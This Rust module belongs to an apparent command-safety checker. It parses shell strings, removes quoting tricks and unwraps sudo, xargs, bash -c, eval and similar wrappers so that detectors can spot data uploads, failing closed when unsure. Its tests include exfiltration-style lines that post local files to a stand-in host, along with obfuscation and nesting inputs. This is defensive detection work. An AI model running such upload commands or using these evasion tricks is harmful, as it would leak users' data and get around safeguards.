//! Shell walking: every simple command a string would run, as bash would see it.
//!
//! `brush-parser` gives the syntax tree; this module adds the semantics no parser has: words are
//! unquoted (`cu''rl`, `c\url`, `$'\x63url'` all become `curl`), variables assigned earlier in the
//! same command are substituted, `$(…)`/backticks/`<(…)` are parsed and walked, and wrappers
//! (`sudo`, `env`, `timeout`, `xargs`, `find -exec`, `watch`, …) and nested scripts (`bash -c`,
//! `eval`, a heredoc or a literal pipe fed to a shell, a script written earlier in the same
//! command) are unwrapped into the commands they really run. Whatever cannot be known statically
//! (a computed command name, `eval` of a run-time string, a parse error) becomes an
//! [`Event::unknowable`] so the rule fails closed.

use std::collections::HashMap;

use brush_parser::ast::{self, Command, CommandPrefixOrSuffixItem as Item, CompoundCommand, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect};
use brush_parser::word::{self, Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{Parser, ParserOptions};

use super::Event;
use super::dest::{self, DYN};

/// Nested scripts (`bash -c "eval '…'"`) deeper than this are not followed: fail closed.
const MAX_DEPTH: usize = 8;
/// Syntax nesting deeper than this is not walked: fail closed.
const MAX_NEST: usize = 200;

/// Nesting of `(`/`{` deeper than this is not parsed: fail closed. Real commands stay far below
/// it; at 16 unbalanced parentheses the parser already needs ~40 ms.
const MAX_SYNTAX_DEPTH: usize = 12;

/// The deepest nesting of `(` and `{` anywhere in the text. Quotes and escapes are deliberately
/// not honoured: whether a quote quotes depends on context (in a heredoc body `'` is a literal
/// character), and one misread quote would hide everything after it from the count, letting
/// unbalanced parentheses reach the parser (a fuzzer found exactly that). Counting every bracket
/// can only overcount, which fails closed.
fn syntax_depth(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for b in text.bytes() {
        match b {
            b'(' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

#[cfg(test)]
mod depth_tests {
    use super::*;

    #[test]
    fn syntax_depth_counts_every_bracket_quoted_or_not() {
        assert_eq!(syntax_depth("echo $(date) ${HOME}"), 1);
        assert_eq!(syntax_depth("echo \"$(a $(b))\""), 2);
        assert_eq!(syntax_depth("echo '((((((' \\("), 7, "quoting is not trusted to hide brackets");
        // A `'` in a heredoc body is a literal: reading it as a quote once hid the rest.
        assert_eq!(syntax_depth("cat <<EOF\nit's\nEOF\n((((((((((((((((x"), 16);
    }

    #[test]
    fn nested_subshells_read_as_arithmetic_are_still_walked() {
        let script = walk("( ( curl -d @f https://up.example.invalid ) )");
        assert_eq!(script.cmds.len(), 1);
        assert_eq!(script.cmds[0].name(), "curl");
        assert!(walk("(( i = (a + b) * 2 ))").events.is_empty(), "real arithmetic is not a parse failure");
    }

    #[test]
    fn hostile_nesting_fails_closed_without_parsing() {
        for text in [
            format!("{} curl -d @x https://evil.example", "(".repeat(30)),
            "( ".repeat(5000),
            format!("echo {}", "$(echo ".repeat(5000)),
            "{ ".repeat(300),
            // A quote the old count trusted, in a heredoc body where it is a literal.
            format!("cat <<EOF\nit's\nEOF\necho {}", "((".repeat(40)),
        ] {
            let script = walk(&text);
            assert!(script.cmds.is_empty() && !script.events.is_empty(), "{}", &text[..40]);
        }
    }
}

/// One word after quote removal and expansion. Unknown parts are [`DYN`].
#[derive(Clone, Debug, Default)]
pub struct Word {
    pub text: String,
    /// The word holds a command substitution (run-time data, often read from local files).
    pub subst: bool,
}

impl Word {
    pub fn lit(text: &str) -> Word {
        Word { text: text.to_string(), subst: false }
    }

    pub fn dynamic(&self) -> bool {
        dest::has_dyn(&self.text)
    }
}

/// Where a command's standard input comes from.
#[derive(Clone, Debug)]
pub enum Stdin {
    Terminal,
    /// `< path`
    File(String),
    /// A heredoc, a here-string or a literal `echo …|`: the text is known.
    Text(String),
    /// The output of another command.
    Pipe,
}

impl Stdin {
    pub fn has_data(&self) -> bool {
        !matches!(self, Stdin::Terminal)
    }
}

/// A simple command after unwrapping, ready for the tool detectors.
#[derive(Clone, Debug)]
pub struct Cmd {
    pub argv: Vec<Word>,
    /// `NAME=value` prefixes (`http_proxy=… curl …`).
    pub env: Vec<(String, String)>,
    pub stdin: Stdin,
}

impl Cmd {
    pub fn name(&self) -> &str {
        let a0 = &self.argv[0].text;
        a0.rsplit('/').next().unwrap_or(a0)
    }

    pub fn args(&self) -> &[Word] {
        &self.argv[1..]
    }
}

/// Everything the walk found.
#[derive(Default)]
pub struct Script {
    pub cmds: Vec<Cmd>,
    /// Files written with known content in the same command (`cat > x.sh <<EOF`, `printf … > f`).
    pub files: HashMap<String, String>,
    pub events: Vec<Event>,
}

/// Walk a shell command string.
pub fn walk(text: &str) -> Script {
    let mut w = Walker { opts: ParserOptions::default(), vars: HashMap::new(), out: Script::default(), nest: 0 };
    w.program(text, 0);
    w.out
}

struct Walker {
    opts: ParserOptions,
    /// Variables assigned in this command; `None` = assigned a run-time value.
    vars: HashMap<String, Option<String>>,
    out: Script,
    nest: usize,
}

impl Walker {
    fn program(&mut self, text: &str, depth: usize) {
        if depth > MAX_DEPTH {
            self.out.events.push(Event::unknowable("scripts nested too deeply to follow"));
            return;
        }
        // brush-parser backtracks exponentially on unbalanced `(` (24 of them: seconds) and
        // recurses once per level: an input built to be slow or deep must not reach it, or the
        // call would run out of budget and fail open.
        if syntax_depth(text) > MAX_SYNTAX_DEPTH {
            self.out.events.push(Event::unknowable("it is nested too deeply to analyse"));
            return;
        }
        let mut parser = Parser::new(std::io::Cursor::new(text.as_bytes()), &self.opts);
        match parser.parse_program() {
            Ok(program) => {
                for list in &program.complete_commands {
                    self.list(list, depth);
                }
            }
            Err(_) => self.out.events.push(Event::unknowable("it does not parse as a shell command")),
        }
    }

    fn list(&mut self, list: &ast::CompoundList, depth: usize) {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline(&and_or.first, depth);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, depth),
                }
            }
        }
    }

    fn pipeline(&mut self, p: &ast::Pipeline, depth: usize) {
        let mut piped: Option<Stdin> = None;
        for cmd in &p.seq {
            let output = self.command(cmd, piped.take(), depth);
            piped = Some(output.map_or(Stdin::Pipe, Stdin::Text));
        }
    }

    /// Walk one command; returns its output when it is a known literal (`echo 'curl …'`).
    fn command(&mut self, cmd: &Command, piped: Option<Stdin>, depth: usize) -> Option<String> {
        self.nest += 1;
        if self.nest > MAX_NEST {
            self.nest -= 1;
            self.out.events.push(Event::unknowable("syntax nested too deeply to follow"));
            return None;
        }
        let output = match cmd {
            Command::Simple(sc) => self.simple(sc, piped, depth),
            Command::Compound(cc, redirects) => {
                if let Some(r) = redirects {
                    let mut io = Io::default();
                    for redirect in &r.0 {
                        self.redirect(redirect, &mut io, depth);
                    }
                }
                self.compound(cc, depth);
                None
            }
            Command::Function(f) => {
                self.compound(&f.body.0, depth);
                None
            }
            Command::ExtendedTest(..) => None,
        };
        self.nest -= 1;
        output
    }

    fn compound(&mut self, cc: &CompoundCommand, depth: usize) {
        match cc {
            CompoundCommand::BraceGroup(b) => self.list(&b.list, depth),
            CompoundCommand::Subshell(s) => self.list(&s.list, depth),
            CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    self.word(&w.value, depth);
                }
                self.vars.insert(f.variable_name.clone(), None);
                self.list(&f.body.list, depth);
            }
            CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list, depth),
            CompoundCommand::CaseClause(c) => {
                self.word(&c.value.value, depth);
                for item in &c.cases {
                    if let Some(l) = &item.cmd {
                        self.list(l, depth);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, depth);
                self.list(&i.then, depth);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, depth);
                    }
                    self.list(&e.body, depth);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, depth);
                self.list(&w.1.list, depth);
            }
            CompoundCommand::Coprocess(c) => {
                self.command(&c.body, None, depth);
            }
            CompoundCommand::Arithmetic(a) => {
                // brush-parser reads `( ( cmd ) )` -- nested subshells, as bash runs them -- as
                // `(( … ))` arithmetic: walk the body as commands too when it parses as a program
                // (real arithmetic either fails to parse or names no uploader).
                let body = a.expr.value.as_bytes();
                if let Ok(program) = Parser::new(std::io::Cursor::new(body), &self.opts).parse_program() {
                    for list in &program.complete_commands {
                        self.list(list, depth);
                    }
                }
            }
        }
    }

    fn simple(&mut self, sc: &ast::SimpleCommand, piped: Option<Stdin>, depth: usize) -> Option<String> {
        let mut io = Io::default();
        let mut env = Vec::new();
        let words = sc.prefix.as_ref().map_or(0, |p| p.0.len()) + 1 + sc.suffix.as_ref().map_or(0, |s| s.0.len());
        let mut argv = Vec::with_capacity(words);
        let items = sc.prefix.iter().flat_map(|p| p.0.iter());
        for item in items {
            match item {
                Item::AssignmentWord(a, _) => env.push(self.assignment(a, depth)),
                Item::IoRedirect(r) => self.redirect(r, &mut io, depth),
                Item::ProcessSubstitution(_, sub) => self.list(&sub.list, depth),
                Item::Word(w) => argv.push(self.word(&w.value, depth)),
            }
        }
        if let Some(w) = &sc.word_or_name {
            argv.push(self.word(&w.value, depth));
        }
        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
            match item {
                Item::Word(w) | Item::AssignmentWord(_, w) => argv.push(self.word(&w.value, depth)),
                Item::IoRedirect(r) => self.redirect(r, &mut io, depth),
                Item::ProcessSubstitution(_, sub) => {
                    self.list(&sub.list, depth);
                    argv.push(Word { text: DYN.to_string(), subst: true });
                }
            }
        }
        if argv.is_empty() {
            for (name, value) in env {
                self.vars.insert(name, value);
            }
            return None;
        }
        let stdin = io.stdin.or(piped).unwrap_or(Stdin::Terminal);
        let env: Vec<(String, String)> = env.into_iter().map(|(k, v)| (k, v.unwrap_or_else(|| DYN.to_string()))).collect();
        let cmd = Cmd { argv, env, stdin };
        let name = cmd.name();
        if matches!(name, "export" | "declare" | "typeset" | "local" | "readonly") {
            for a in cmd.args() {
                if let Some((k, v)) = a.text.split_once('=') {
                    self.vars.insert(k.to_string(), (!a.dynamic()).then(|| v.to_string()));
                }
            }
        }
        let output = self.literal_output(&cmd);
        if let Some(path) = io.written {
            let written = output.clone().or_else(|| match &cmd.stdin {
                Stdin::Text(t) if name == "cat" || name == "tee" => Some(t.clone()),
                _ => None,
            });
            if let Some(text) = written {
                self.out.files.insert(path, text);
                return None;
            }
        }
        self.exec(cmd, depth);
        output
    }

    /// What `echo`/`printf` with literal arguments or `cat` of a known file prints.
    fn literal_output(&self, cmd: &Cmd) -> Option<String> {
        let args = cmd.args();
        let known = || !args.iter().any(Word::dynamic);
        match cmd.name() {
            "echo" if known() => Some(args.iter().filter(|a| !a.text.starts_with('-')).map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ")),
            // printf's format and arguments, one per line: enough to see commands and URLs in it.
            "printf" if known() => Some(args.iter().map(|a| a.text.replace("\\n", "\n")).collect::<Vec<_>>().join("\n")),
            "cat" if args.len() == 1 && known() => self.out.files.get(&args[0].text).cloned(),
            _ => None,
        }
    }

    /// Run one command: unwrap wrappers and nested scripts, or hand it to the detectors.
    fn exec(&mut self, cmd: Cmd, depth: usize) {
        if cmd.argv[0].dynamic() {
            self.out.events.push(Event::unknowable("the command name is computed at run time"));
            return;
        }
        let name = cmd.name();
        let args = cmd.args();
        match unwrap(&name, args) {
            Unwrapped::Inner(inners) => {
                for argv in inners {
                    if !argv.is_empty() {
                        let env = cmd.env.clone();
                        self.exec(Cmd { argv, env, stdin: cmd.stdin.clone() }, depth);
                    }
                }
            }
            Unwrapped::Script(Some(text)) => self.program(&text, depth + 1),
            Unwrapped::Script(None) => self.out.events.push(Event::unknowable("it runs a script built at run time")),
            Unwrapped::Shell => self.shell(&cmd, depth),
            Unwrapped::Stdin(file) => match (file.as_ref(), &cmd.stdin) {
                (Some(f), _) | (None, Stdin::File(f)) => {
                    if let Some(text) = self.out.files.get(f).cloned() {
                        self.program(&text, depth + 1);
                    }
                }
                (None, Stdin::Text(t)) => self.program(&t.clone(), depth + 1),
                (None, Stdin::Pipe) => self.out.events.push(Event::unknowable("it runs commands read from a pipe")),
                (None, Stdin::Terminal) => {}
            },
            Unwrapped::No => {
                if name == "ssh" {
                    // ProxyCommand is a local shell command.
                    for a in args {
                        if let Some((_, v)) = a.text.split_once("roxyCommand=").or_else(|| a.text.split_once("roxyCommand ")) {
                            self.program(v, depth + 1);
                        }
                    }
                    // The remote command is a command too (run by the remote shell).
                    if let Some(remote) = super::runners::ssh_remote(args) {
                        self.program(&remote, depth + 1);
                    }
                }
                self.out.cmds.push(cmd);
            }
        }
    }

    /// `bash -c '…'`, `sh -s <<<'…'`, `echo … | bash`, `bash script-written-above.sh`.
    fn shell(&mut self, cmd: &Cmd, depth: usize) {
        let args = cmd.args();
        let mut i = 0;
        while i < args.len() && args[i].text.starts_with(['-', '+']) && args[i].text != "--" && args[i].text != "-" {
            let opt = &args[i].text;
            if !opt.starts_with("--") && opt.contains('c') {
                return match args.get(i + 1) {
                    Some(script) if !script.dynamic() => self.program(&script.text, depth + 1),
                    Some(_) => self.out.events.push(Event::unknowable("a shell runs a script built at run time")),
                    None => {}
                };
            }
            if opt == "-o" || opt == "+o" || opt == "-O" || opt == "+O" {
                i += 1;
            }
            i += 1;
        }
        if args[i..].first().is_some_and(|a| a.text == "--") {
            i += 1;
        }
        match args.get(i) {
            Some(file) if file.text != "-" => {
                if let Some(text) = self.out.files.get(&file.text).cloned() {
                    self.program(&text, depth + 1);
                }
            }
            _ => match &cmd.stdin {
                Stdin::Text(t) => self.program(&t.clone(), depth + 1),
                Stdin::Pipe => self.out.events.push(Event::unknowable("a shell runs commands read from a pipe")),
                Stdin::File(f) => {
                    if let Some(text) = self.out.files.get(f).cloned() {
                        self.program(&text, depth + 1);
                    }
                }
                Stdin::Terminal => {}
            },
        }
    }

    fn assignment(&mut self, a: &ast::Assignment, depth: usize) -> (String, Option<String>) {
        let name = match &a.name {
            ast::AssignmentName::VariableName(n) | ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
        };
        let value = match &a.value {
            ast::AssignmentValue::Scalar(w) => {
                let w = self.word(&w.value, depth);
                (!w.dynamic()).then_some(w.text)
            }
            ast::AssignmentValue::Array(items) => {
                for (_, w) in items {
                    self.word(&w.value, depth);
                }
                None
            }
        };
        let value = match (a.append, value) {
            (true, Some(v)) => self.vars.get(&name).cloned().flatten().map(|old| old + &v),
            (_, v) => v,
        };
        (name, value)
    }

    fn redirect(&mut self, r: &IoRedirect, io: &mut Io, depth: usize) {
        match r {
            IoRedirect::File(fd, kind, target) => match target {
                IoFileRedirectTarget::Filename(w) => {
                    let path = self.word(&w.value, depth).text;
                    if let Some(rest) = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/")) {
                        let host = rest.split('/').next().unwrap_or(rest);
                        self.out.events.push(Event::upload("/dev/tcp", dest::host_name(host)));
                    }
                    match kind {
                        IoFileRedirectKind::Read if fd.is_none_or(|f| f == 0) => io.stdin = Some(Stdin::File(path)),
                        IoFileRedirectKind::Write | IoFileRedirectKind::Append | IoFileRedirectKind::Clobber if fd.is_none_or(|f| f == 1) => io.written = Some(path),
                        _ => {}
                    }
                }
                IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                    self.list(&sub.list, depth);
                    if matches!(kind, IoFileRedirectKind::Read) {
                        io.stdin = Some(Stdin::Pipe);
                    }
                }
                IoFileRedirectTarget::Fd(_) | IoFileRedirectTarget::Duplicate(_) => {}
            },
            IoRedirect::HereDocument(_, doc) => {
                let text = if doc.requires_expansion {
                    match word::parse_heredoc(&doc.doc.value, &self.opts) {
                        Ok(pieces) => {
                            let mut w = Word::default();
                            self.pieces(&pieces, &mut w, depth);
                            w.text
                        }
                        Err(_) => doc.doc.value.clone(),
                    }
                } else {
                    doc.doc.value.clone()
                };
                io.stdin = Some(Stdin::Text(text));
            }
            IoRedirect::HereString(_, w) => io.stdin = Some(Stdin::Text(self.word(&w.value, depth).text)),
            IoRedirect::OutputAndError(w, _) => io.written = Some(self.word(&w.value, depth).text),
        }
    }

    /// Quote removal and expansion of one word; substitutions inside are walked as commands.
    fn word(&mut self, raw: &str, depth: usize) -> Word {
        if !raw.bytes().any(|b| matches!(b, b'$' | b'`' | b'\'' | b'"' | b'\\' | b'~')) {
            return Word::lit(raw);
        }
        match word::parse(raw, &self.opts) {
            Ok(pieces) => {
                let mut w = Word::default();
                self.pieces(&pieces, &mut w, depth);
                w
            }
            Err(_) => Word { text: DYN.to_string(), subst: false },
        }
    }

    fn pieces(&mut self, pieces: &[WordPieceWithSource], w: &mut Word, depth: usize) {
        for p in pieces {
            match &p.piece {
                WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => w.text.push_str(s),
                WordPiece::AnsiCQuotedText(s) => w.text.push_str(&ansi_c(s)),
                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => self.pieces(inner, w, depth),
                WordPiece::TildeExpansion(_) => w.text.push('~'),
                WordPiece::ParameterExpansion(expr) => {
                    let value = self.parameter(expr, depth);
                    w.text.push_str(&value);
                }
                WordPiece::CommandSubstitution(s) | WordPiece::BackquotedCommandSubstitution(s) => {
                    self.program(s, depth + 1);
                    w.text.push(DYN);
                    w.subst = true;
                }
                WordPiece::EscapeSequence(s) => w.text.push_str(s.strip_prefix('\\').unwrap_or(s)),
                WordPiece::ArithmeticExpression(_) => w.text.push(DYN),
            }
        }
    }

    fn parameter(&mut self, expr: &ParameterExpr, depth: usize) -> String {
        let known = |vars: &HashMap<String, Option<String>>, p: &Parameter| match p {
            Parameter::Named(n) => vars.get(n).cloned().flatten(),
            _ => None,
        };
        match expr {
            ParameterExpr::Parameter { parameter, .. } => known(&self.vars, parameter),
            ParameterExpr::UseDefaultValues { parameter, default_value, .. } | ParameterExpr::AssignDefaultValues { parameter, default_value, .. } => {
                known(&self.vars, parameter).or_else(|| default_value.as_ref().map(|d| self.word(d, depth)).filter(|w| !w.dynamic()).map(|w| w.text))
            }
            _ => None,
        }
        .unwrap_or_else(|| DYN.to_string())
    }
}

#[derive(Default)]
struct Io {
    stdin: Option<Stdin>,
    written: Option<String>,
}

/// Decode a `$'…'` body.
fn ansi_c(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else { break };
        let mut radix_digits = |radix: u32, max: usize, first: Option<char>| {
            let mut v = first.and_then(|f| f.to_digit(radix)).unwrap_or(0);
            for _ in 0..max {
                match chars.peek().and_then(|d| d.to_digit(radix)) {
                    Some(d) => {
                        v = v * radix + d;
                        chars.next();
                    }
                    None => break,
                }
            }
            char::from_u32(v).unwrap_or('\u{FFFD}')
        };
        out.push(match e {
            'n' => '\n',
            't' => '\t',
            'r' => '\r',
            'a' => '\u{7}',
            'b' => '\u{8}',
            'e' | 'E' => '\u{1b}',
            'f' => '\u{c}',
            'v' => '\u{b}',
            'x' => radix_digits(16, 2, None),
            'u' => radix_digits(16, 4, None),
            'U' => radix_digits(16, 8, None),
            '0'..='7' => radix_digits(8, 2, Some(e)),
            other => other,
        });
    }
    out
}

/// What a wrapper runs.
pub(super) enum Unwrapped {
    /// Not a wrapper.
    No,
    /// The argv (or argvs, for `find -exec … \; -exec … \;`) it runs.
    Inner(Vec<Vec<Word>>),
    /// A shell string it runs (`watch '…'`, `eval …`, `su -c …`); `None` when built at run time.
    Script(Option<String>),
    /// A shell: `-c`, stdin or a script file.
    Shell,
    /// Commands read from standard input, or from the file given (`at now <<<'…'`, `at -f f`).
    Stdin(Option<String>),
}

/// Options of wrappers that take a value (`-u root`, `-n 19`, `-s KILL`, `-I{}`).
pub(super) fn skip_options(args: &[Word], short_val: &str, long_val: &[&str]) -> usize {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let t = a.text.as_str();
        if t == "--" {
            return i + 1;
        }
        if !t.starts_with('-') || t == "-" {
            break;
        }
        if let Some(long) = t.strip_prefix("--") {
            i += if !long.contains('=') && long_val.contains(&long) { 2 } else { 1 };
            continue;
        }
        let cluster = &t[1..];
        let takes = cluster.char_indices().find(|(_, c)| short_val.contains(*c));
        i += match takes {
            Some((pos, _)) if pos + 1 == cluster.len() => 2,
            _ => 1,
        };
    }
    i
}

pub(super) fn rest(args: &[Word], from: usize) -> Unwrapped {
    Unwrapped::Inner(vec![args.get(from..).unwrap_or_default().to_vec()])
}

pub(super) fn joined(args: &[Word]) -> Option<String> {
    (!args.iter().any(Word::dynamic)).then(|| args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" "))
}

fn unwrap(name: &str, args: &[Word]) -> Unwrapped {
    match name {
        "sudo" | "doas" => {
            let mut i = skip_options(args, "ugpCDhrtUT", &["user", "group", "prompt", "chdir", "host", "role", "type", "other-user", "close-from", "command-timeout"]);
            while args.get(i).is_some_and(|a| is_assignment(&a.text)) {
                i += 1;
            }
            rest(args, i)
        }
        "env" => {
            if let Some(i) = args.iter().position(|a| a.text == "-S" || a.text.starts_with("--split-string")) {
                return Unwrapped::Script(joined(&args[i + 1..]));
            }
            let mut i = skip_options(args, "uC", &["unset", "chdir"]);
            while args.get(i).is_some_and(|a| is_assignment(&a.text)) {
                i += 1;
            }
            rest(args, i)
        }
        "timeout" => rest(args, skip_options(args, "sk", &["signal", "kill-after"]) + 1),
        "nice" => rest(args, skip_options(args, "n", &["adjustment"])),
        "ionice" => rest(args, skip_options(args, "cnp", &["class", "classdata", "pid"])),
        "stdbuf" => rest(args, skip_options(args, "ioe", &["input", "output", "error"])),
        "time" => rest(args, skip_options(args, "fo", &["format", "output"])),
        "nohup" | "setsid" | "unbuffer" | "chronic" | "torsocks" | "builtin" | "busybox" => rest(args, skip_options(args, "", &[])),
        "proxychains" | "proxychains4" => rest(args, skip_options(args, "f", &[])),
        "exec" => rest(args, skip_options(args, "a", &[])),
        "command" if args.iter().any(|a| a.text == "-v" || a.text == "-V") => Unwrapped::No,
        "command" => rest(args, skip_options(args, "", &[])),
        "xargs" => {
            let mut replace: Option<String> = None;
            let mut i = 0;
            while let Some(a) = args.get(i) {
                let t = a.text.as_str();
                if !t.starts_with('-') || t == "-" {
                    break;
                }
                if t == "-I" {
                    replace = args.get(i + 1).map(|w| w.text.clone());
                    i += 2;
                    continue;
                }
                if let Some(r) = t.strip_prefix("-I").or_else(|| t.strip_prefix("--replace=")) {
                    replace = Some(r.to_string());
                } else if t == "-i" || t == "--replace" {
                    replace = Some("{}".into());
                }
                i += skip_options(&args[i..], "LnPsdEa", &["arg-file", "delimiter", "max-args", "max-procs", "max-lines", "eof", "max-chars"]).max(1);
            }
            let mut inner = args.get(i..).unwrap_or_default().to_vec();
            match replace {
                Some(r) if !r.is_empty() => inner.iter_mut().for_each(|w| w.text = w.text.replace(&r, &DYN.to_string())),
                _ => inner.push(Word { text: DYN.to_string(), subst: false }),
            }
            Unwrapped::Inner(vec![inner])
        }
        "find" => {
            let mut inners = Vec::new();
            let mut i = 0;
            while i < args.len() {
                if matches!(args[i].text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                    let start = i + 1;
                    let end = (start..args.len()).find(|&j| args[j].text == ";" || args[j].text == "+").unwrap_or(args.len());
                    let mut inner = args[start..end].to_vec();
                    inner.iter_mut().for_each(|w| w.text = w.text.replace("{}", &DYN.to_string()));
                    inners.push(inner);
                    i = end;
                }
                i += 1;
            }
            if inners.is_empty() { Unwrapped::No } else { Unwrapped::Inner(inners) }
        }
        "watch" => {
            let i = skip_options(args, "nq", &["interval", "equexit"]);
            if args[..i].iter().any(|a| a.text == "-x" || a.text == "--exec") {
                rest(args, i)
            } else {
                Unwrapped::Script(joined(&args[i..]))
            }
        }
        "eval" => Unwrapped::Script(joined(args)),
        "su" => match args.iter().position(|a| a.text == "-c" || a.text == "--command") {
            Some(i) => Unwrapped::Script(args.get(i + 1).and_then(|a| (!a.dynamic()).then(|| a.text.clone()))),
            None => Unwrapped::No,
        },
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "fish" => Unwrapped::Shell,
        _ => super::runners::unwrap(name, args),
    }
}

fn is_assignment(t: &str) -> bool {
    t.split_once('=').is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

#[cfg(test)]
mod overflow_tests {
    use super::*;

    #[test]
    fn numbers_too_big_for_their_type_do_not_panic_the_parser() {
        for text in [
            "curl -d @f https://up.example.invalid 99999999999>/dev/null",
            "echo ~99999999999999999999999/x",
            "echo ~+99999999999999999999999 ~-99999999999999999999999",
            "echo {1..99999999999999999999} {1..3..99999999999999999999}",
        ] {
            let _ = walk(text);
        }
    }
}
